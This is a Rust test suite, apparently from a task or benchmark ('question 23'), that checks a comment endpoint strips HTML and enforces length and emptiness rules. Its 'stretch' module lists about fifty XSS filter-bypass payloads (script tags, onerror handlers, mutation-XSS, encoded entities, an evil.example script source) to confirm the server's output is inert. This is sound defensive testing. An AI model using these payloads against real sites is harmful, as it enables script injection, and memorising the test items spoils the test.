//! What a server for question 23 must do.

use contract::{Endpoint, Response, Server, case, house_rules, json, patience, process_rules};

#[test]
fn a_comment_without_html_is_unchanged() {
    let app = Server::start();

    for text in
        ["Nice post, thanks!", "first line\nsecond line", "søren 李雷 😀", "50% off (today)"]
    {
        let response = comment(&app, text);
        response.expect_status(200).expect_media_type("application/json");
        response.expect_json(json!({ "comment": response.json_at("/comment") }));
        expect_text(&response, &[text]);
    }
}

#[test]
fn tags_are_removed_and_the_text_between_them_stays() {
    let app = Server::start();

    for (text, wanted) in [
        ("<b>Hello</b> <i>world</i>", "Hello world"),
        ("see <a href=\"https://example.com/?a=1\" target=_blank>this</a>.", "see this."),
        ("<p class=x onclick=\"alert(1)\">Hi</p>", "Hi"),
        ("<P\nID=\"x\"\n>Hi</P >", "Hi"),
        ("<hr/>Hi", "Hi"),
        ("before<!-- hidden -->after", "beforeafter"),
        ("look: <img src=cat.png alt=cat>!", "look: !"),
        ("<custom-tag>Hi</custom-tag>", "Hi"),
    ] {
        expect_text(&comment(&app, text), &[wanted]);
    }
}

#[test]
fn surrounding_whitespace_is_trimmed_after_cleaning() {
    let app = Server::start();

    for text in ["  Hi  ", "\t\nHi\n", "<p>  Hi </p>", " <b> Hi</b> <!-- bye --> "] {
        expect_text(&comment(&app, text), &["Hi"]);
    }
}

#[test]
fn more_than_500_characters_get_400() {
    let app = Server::start();

    for text in ["a".repeat(501), "word ".repeat(200)] {
        let response = comment(&app, &text);
        response.expect_status(400).expect_json(json!({ "error": "Comment too long" }));
    }
}

#[test]
fn exactly_500_characters_are_accepted() {
    let app = Server::start();
    let text = "a".repeat(500);

    expect_text(&comment(&app, &text), &[&text]);
}

#[test]
fn a_comment_that_is_empty_after_cleaning_gets_400() {
    let app = Server::start();

    for text in ["", "   ", "\n\t ", "<p></p>", "<b> </b>", "<!-- only this -->", "<br><img src=x>"]
    {
        let response = comment(&app, text);
        response.expect_status(400).expect_json(json!({ "error": "Comment required" }));
    }
}

#[test]
fn a_text_that_is_missing_or_not_a_string_gets_400() {
    let app = Server::start();
    comment(&app, "Hi").expect_status(200);

    for body in [
        json!({}),
        json!({ "comment": "Hi" }),
        json!({ "text": null }),
        json!({ "text": 42 }),
        json!({ "text": ["Hi"] }),
    ] {
        let _case = case(&body);
        app.post("/comment").json(body.clone()).send().expect_status(400).expect_json_error();
    }
}

mod stretch {
    use std::time::Duration;

    use super::*;

    /// Payloads that are known to get past filters without a parser.
    const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<script\u{c}>alert(1)</script\n>",
        "<script/x>alert(1)</script/x>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img src=x onerror=alert(1) ",
        "<img src=\"x\" title=\"a>b\" onerror=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<svg onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe><img src=x onerror=alert(1)></iframe>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<!--><script>alert(1)</script-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!-- never closed <img src=x onerror=alert(1)>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "</ x><img src=x onerror=alert(1)>",
        "</p onclick=alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=' javascript:alert(1)'>click</a>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<base href=//evil.example/>",
        "<form><button formaction=javascript:alert(1)>click",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3E;",
        "&ltimg src=x onerror=alert(1)&gt",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<b>&lt;</b>img src=x onerror=alert(1)&gt;",
        "<\0script>alert(1)</script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<i <b>/img src=x onerror=alert(1)>",
        "<b<img src=x onerror=alert(1)>",
    ];

    #[test]
    fn the_response_is_inert_for_known_payloads() {
        let app = Server::start();

        for payload in PAYLOADS {
            let _case = case(payload);
            let response = comment(&app, &format!("Hi {payload}"));
            expect_safe(&response);
            let text = text(&response);
            response.expect(text.starts_with("Hi"), "the text before the payload", text);
        }
    }

    #[test]
    fn script_content_is_removed_or_text() {
        let app = Server::start();

        expect_text(&comment(&app, "Hi <script>alert(1)</script>"), &["Hi", "Hi alert(1)"]);
        expect_text(&comment(&app, "<style>p{}</style>Hi"), &["Hi", "p{}Hi"]);
    }

    #[test]
    fn characters_that_are_not_markup_stay() {
        let app = Server::start();

        for text in [
            "a < b",
            "1 < 2 && 3 > 2",
            "I <3 you",
            "<- look, an arrow ->",
            "AT&T",
            "x > y",
            "she said \"it's fine\"",
            "fish & chips; salt & vinegar",
            "f(x) = 2 << 3",
        ] {
            expect_text(&comment(&app, text), &[text]);
        }
    }

    #[test]
    fn text_between_svg_and_mathml_tags_stays() {
        let app = Server::start();

        for (text, wanted) in [
            ("press <text>OK</text> now", "press OK now"),
            ("a <circle>round</circle> table", "a round table"),
            ("<mi>x</mi> <mo>=</mo> <mn>2</mn>", "x = 2"),
            ("<svg><text>Hi</text></svg> there", "Hi there"),
        ] {
            expect_text(&comment(&app, text), &[wanted]);
        }
    }

    #[test]
    fn a_tag_ends_where_it_ends_in_a_browser() {
        let app = Server::start();

        for (text, wanted) in [
            ("<a title=\"a > b\">Hi</a>", "Hi"),
            ("<a title='1>0' href=\"x>y\">Hi</a>", "Hi"),
            ("1 < 2 <b>is</b> true", "1 < 2 is true"),
        ] {
            expect_text(&comment(&app, text), &[wanted]);
        }
    }

    #[test]
    fn entities_become_their_characters() {
        let app = Server::start();

        for (text, wanted) in [
            ("Tom &amp; Jerry", "Tom & Jerry"),
            ("&quot;caf&eacute;&quot; &#8364;5", "\"caf\u{e9}\" \u{20ac}5"),
            ("a &lt; b", "a < b"),
            ("write &amp;lt; for it", "write &lt; for it"),
            ("and &amp;amp; for the other", "and &amp; for the other"),
        ] {
            expect_text(&comment(&app, text), &[wanted]);
        }
    }

    #[test]
    fn the_limit_counts_decoded_characters_after_cleaning() {
        let app = Server::start();

        for (one, what) in [
            ("\u{e9}", "letters of two bytes"),
            ("😀", "characters of four bytes"),
            ("&amp;", "entities"),
            ("<", "characters that are escaped"),
            ("<b>a</b>", "letters with tags around them"),
        ] {
            let _case = case(what);
            comment(&app, &one.repeat(500)).expect_status(200);
            let more = comment(&app, &one.repeat(501));
            more.expect_status(400).expect_json(json!({ "error": "Comment too long" }));
        }
        comment(&app, &format!("<p>  {}  </p>\n", "a".repeat(500))).expect_status(200);
    }

    #[test]
    fn whitespace_entities_count_as_whitespace() {
        let app = Server::start();

        for text in ["&nbsp;", " &#32;&#x20; ", "<p>&nbsp;</p>\n&nbsp;"] {
            let response = comment(&app, text);
            response.expect_status(400).expect_json(json!({ "error": "Comment required" }));
        }
        expect_text(&comment(&app, "&nbsp;Hi&nbsp;"), &["Hi"]);
    }

    #[test]
    fn deeply_nested_tags_get_a_response_within_5_seconds() {
        let app = Server::start();
        comment(&app, "<div>Hi</div>").expect_status(200);

        for tag in ["<div>", "<ul><li>"] {
            let _case = case(tag);
            let text = tag.repeat(200_000 / tag.len());
            let request = app.post("/comment").json(json!({ "text": text }));
            let limit = patience(Duration::from_secs(5));
            request.timeout(limit).send().expect_status([200, 400, 413]);
        }
    }

    #[test]
    fn invalid_requests_get_a_4xx() {
        let app = Server::start();
        comment(&app, "<b>Hi</b>").expect_status(200);

        house_rules(&app, &[Endpoint::post("/comment", json!({ "text": "<b>Hi</b>" }))]);
    }

    #[test]
    fn starts_and_stops_cleanly() {
        comment(&Server::start(), "<b>Hi</b>").expect_status(200);

        process_rules(&Endpoint::post("/comment", json!({ "text": "<b>Hi</b>" })));
    }
}

fn comment(app: &Server, text: &str) -> Response {
    app.post("/comment").json(json!({ "text": text })).send()
}

/// Expects a safe comment that a browser shows as one of these texts.
#[track_caller]
fn expect_text(response: &Response, wanted: &[&str]) {
    expect_safe(response);
    let text = text(response);
    let is_wanted = wanted.contains(&&*text);
    response.expect(is_wanted, &format!("a comment that reads: {}", wanted.join(" or ")), text);
}

/// Expects a comment in which a browser finds no tag and no HTML comment: no `<` is followed by a
/// letter, `/`, `!` or `?` (HTML, 13.2.5.6 Tag open state).
#[track_caller]
fn expect_safe(response: &Response) {
    response.expect_status(200);
    let comment = response.json_at("/comment");
    let html = comment.as_str().unwrap_or_default();
    response.expect(comment.is_string(), "a comment that is a string", &comment);
    let is_markup = |rest: &str| {
        rest.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'))
    };
    let is_safe = !html.split('<').skip(1).any(is_markup);
    response.expect(is_safe, "a comment without tags", html);
}

/// The comment as a reader sees it.
fn text(response: &Response) -> String {
    let comment = response.json_at("/comment");
    html_escape::decode_html_entities(comment.as_str().unwrap_or_default()).into_owned()
}
